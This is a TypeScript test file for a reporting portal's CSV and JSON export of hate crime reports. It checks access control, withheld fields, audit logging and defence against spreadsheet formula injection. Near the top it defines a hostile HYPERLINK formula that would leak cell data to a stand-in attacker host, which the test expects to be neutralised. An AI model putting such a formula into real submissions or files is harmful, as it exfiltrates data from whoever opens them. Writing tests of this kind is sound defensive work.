import { Hono } from 'hono';
import { afterEach, describe, expect, it } from 'vitest';
import { questionKey } from '../../api/definitions/types';
import { limiter } from '../../api/http/rate-limit';
import { log } from '../../api/log';
import { workspaceRoutes } from '../../api/workspace/routes';
import { staffMember } from '../../api/workspace/staff';
import { createWorkspace, SESSION_COOKIE } from '../../api/workspace/workspace';
import { translator } from '../../i18n';
import { createCore, drugsOnAHousingEstate } from '../support/core';
import { defaultPartner } from '../support/fixtures';

const MINUTE = 60_000;
const t = translator('en');
const PUBLIC = new URL('https://portal.example.org');
// Noise on no housing provider's estate: the ASB team's alone.
const { landlord: _landlord, ...noise } = { ...drugsOnAHousingEstate, kind: 'noise' };
// What a hostile reporter might type, to run on the partner's computer when the file is opened.
const FORMULA = '=HYPERLINK("https://evil.example.org/?leak="&A1,"Click for details")';
const AWKWARD = 'He said "go home", then\nwalked off, laughing';
const WITHHELD = 'Withheld platform canary';

let core: Awaited<ReturnType<typeof createCore>>;
afterEach(async () => {
  await core.close();
});

async function setUp() {
  core = await createCore();
  const workspace = createWorkspace({ store: core.store, routing: core.routing, definitions: core.definitions, publicUrl: PUBLIC, now: () => core.clock.now });
  const app = new Hono().route(
    '/partners',
    workspaceRoutes({ workspace, publicUrl: PUBLIC, secureCookies: true, signInLimit: limiter({ limit: 10, windowMs: MINUTE }, () => core.clock.now), clientOf: () => 'one client', log }),
  );
  return { workspace, app };
}

const get = (app: Hono, path: string, cookie?: string) => app.request(`${PUBLIC.origin}${path}`, { headers: cookie ? { cookie: `${SESSION_COOKIE}=${cookie}` } : {} });

/**
 * Two hate crime reports asking for support, and an ASB report: exported by the partner whose
 * rule for the first gives it only some answers (the Victims' Hub, or whoever the routing names).
 */
async function twoReportsAndAnother() {
  const setup = await setUp();
  const support = core.byId('hate-crime').examples.valid.find((e) => e.answers.consentVictimsHub === 'yes')!.answers;
  const first = await core.submit('hate-crime', { ...support, description: FORMULA, platform: WITHHELD, name: 'Łucja Wiśniewska' });
  core.clock.now += MINUTE;
  const second = await core.submit('hate-crime', { ...support, description: AWKWARD, name: 'عائشہ بی بی' });
  const other = await core.submit('asb', noise);
  if (!first.ok || !second.ok || !other.ok) throw new Error('not stored');
  const report = (await core.store.reportByReference(first.reference))!;
  const restricted = (await core.store.workspace.casesOfReport(report.id)).find((c) => {
    const partner = core.routing.partners.find((p) => p.id === c.partnerId)!;
    return c.fields && !c.fields.includes('platform') && c.fields.includes('description') && c.fields.includes('name') && partner.staff.length > 0;
  });
  expect(restricted, 'the fixture routes hate crime with consent to a partner with staff that sees the account and the name, not the platform').toBeDefined();
  const partner = core.routing.partners.find((p) => p.id === restricted!.partnerId)!;
  expect(defaultPartner(core.routing, 'asb').id).not.toBe(partner.id);
  const cookie = await setup.workspace.sessions.start(partner.staff[0]);
  return { ...setup, partner, staff: partner.staff[0], cookie, first: first.reference, second: second.reference, other: other.reference };
}

// The partner's record of each export (its own trail has one for each report it held).
const exports = async () => (await core.store.workspace.recentAudit(50)).filter((e) => e.action === 'exported' && !e.reference);
const exportedReferences = async () => (await core.store.workspace.recentAudit(50)).filter((e) => e.action === 'exported' && e.reference).map((e) => e.reference);

describe('a partner’s export of its own reports', () => {
  it('as CSV: its reports only, its answers only, a formula shown as text, awkward text quoted, names readable in Excel', async () => {
    const { app, cookie, partner, staff, first, second, other } = await twoReportsAndAnother();
    const res = await get(app, '/partners/export.csv', cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${partner.id}-reports-2026-11-25.csv"`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = bytes.toString('utf8');

    const records = csv.slice(1).split('\r\n');
    expect(records.at(-1)).toBe('');
    const [header] = records;
    expect(records).toHaveLength(4);
    expect(records[1].startsWith(`${second},Hate crime,2026-11-25 12:01,`)).toBe(true);
    expect(records[2].startsWith(`${first},Hate crime,2026-11-25 12:00,`)).toBe(true);
    expect(csv).not.toContain(other);

    const withheldLabel = t(`${questionKey(core.byId('hate-crime'), 'platform')}.short`);
    expect(header.split(',')).toContain(t(`${questionKey(core.byId('hate-crime'), 'description')}.short`));
    expect(header.split(',')).not.toContain(withheldLabel);
    expect(csv).not.toContain(WITHHELD);

    expect(csv).toContain(`,"'${FORMULA.replaceAll('"', '""')}"`);
    expect(csv.split('=HYPERLINK')).toHaveLength(2);
    expect(csv).toContain(`,"${AWKWARD.replaceAll('"', '""')}"`);
    expect(csv).toContain(',Łucja Wiśniewska,');
    expect(csv).toContain(',عائشہ بی بی,');

    expect(await exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as CSV' })]);
    expect(await exportedReferences()).toHaveLength(2);
    for (const reference of await exportedReferences()) expect(csv).toContain(`${reference},`);
  });

  it('as JSON: the raw answers it may see, unchanged, with the lines a person reads and the case’s state', async () => {
    const { app, workspace, cookie, partner, staff, first, second, other } = await twoReportsAndAnother();
    const officer = staffMember(core.routing, staff)!;
    expect(await workspace.casework.acknowledge(officer, first)).toEqual({ ok: true });
    const res = await get(app, '/partners/export.json', cookie);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${partner.id}-reports-2026-11-25.json"`);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const body = await res.text();
    expect(body).not.toContain(WITHHELD);
    expect(body).not.toContain(other);

    const records = JSON.parse(body) as { reference: string; status: string; answers: Record<string, unknown>; lines: { answers: { value: string }[] } }[];
    expect(records.map((r) => r.reference)).toEqual([second, first]);
    const [, formula] = records;
    const fields = (await core.store.workspace.caseOf(first, partner.id))!.fields!;
    expect(Object.keys(formula.answers).filter((id) => !fields.includes(id))).toEqual([]);
    expect(formula).toMatchObject({ type: 'hate-crime', status: 'acknowledged', outcome: null, stopContact: false, withdrawn: false, language: 'en', receivedAt: '2026-11-25T12:00:00.000Z' });
    expect(formula.answers).toMatchObject({ description: FORMULA, name: 'Łucja Wiśniewska' });
    expect(formula.lines.answers.map((l) => l.value)).toContain(FORMULA);

    expect(await exports()).toEqual([expect.objectContaining({ actor: staff, partnerId: partner.id, action: 'exported', detail: '2 reports as JSON' })]);
    // Counted, never what the reports said.
    expect(JSON.stringify(await core.store.workspace.recentAudit(50))).not.toMatch(/HYPERLINK|go home|Łucja/);
  });

  it('is refused, as the inbox is, with no session, an expired one, or to an administrator who works for no partner', async () => {
    const { app, workspace, cookie } = await twoReportsAndAnother();
    for (const path of ['/partners/export.csv', '/partners/export.json']) {
      const anonymous = await get(app, path);
      expect(anonymous.status).toBe(303);
      expect(anonymous.headers.get('location')).toBe('/partners/sign-in?expired=1');
    }
    const administrator = core.routing.workspace.administrators.find((email) => !staffMember(core.routing, email)!.partner);
    expect(administrator, 'the fixture has an administrator who works for no partner').toBeDefined();
    const admin = await get(app, '/partners/export.csv', await workspace.sessions.start(administrator!));
    expect(admin.status).toBe(303);
    expect(admin.headers.get('location')).toBe('/partners/admin');

    core.clock.now += 31 * MINUTE;
    const expired = await get(app, '/partners/export.csv', cookie);
    expect(expired.headers.get('location')).toBe('/partners/sign-in?expired=1');
    expect(await exports()).toEqual([]);
  });
});
